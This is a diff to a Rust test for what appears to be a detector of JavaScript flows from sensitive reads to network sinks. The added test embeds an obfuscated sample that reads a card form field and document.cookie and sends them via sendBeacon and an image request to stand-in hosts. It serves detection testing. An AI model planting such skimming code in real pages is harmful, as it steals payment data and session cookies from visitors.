@@ -134,4 +134,16 @@ fn sensitive_reads_reaching_network_sinks_are_flows() {
     // Reads that go nowhere near a sink, and sinks that send nothing sensitive: no flow.
     let quiet = r#"var v = input.value; console.log(v.length); fetch("/api/ping", { method: "POST", body: "{}" });"#;
     assert!(flows(quiet).is_empty(), "{:?}", flows(quiet));
+    // The same reads and sinks hidden behind an obfuscator's string array.
+    let packed = r##"var _0x4f2a = ["value", "querySelector", "sendBeacon", "#cc", "src", "cookie"];
+        var v = document[_0x4f2a[1]](_0x4f2a[3])[_0x4f2a[0]];
+        navigator[_0x4f2a[2]]("https://x.example.net/c", v);
+        var i = new Image(); i[_0x4f2a[4]] = "https://t.example.net/p?c=" + document[_0x4f2a[5]];"##;
+    assert_eq!(
+        flows(packed),
+        [
+            "read:cookie -> network:image",
+            "read:form-fields -> network:beacon"
+        ]
+    );
 }
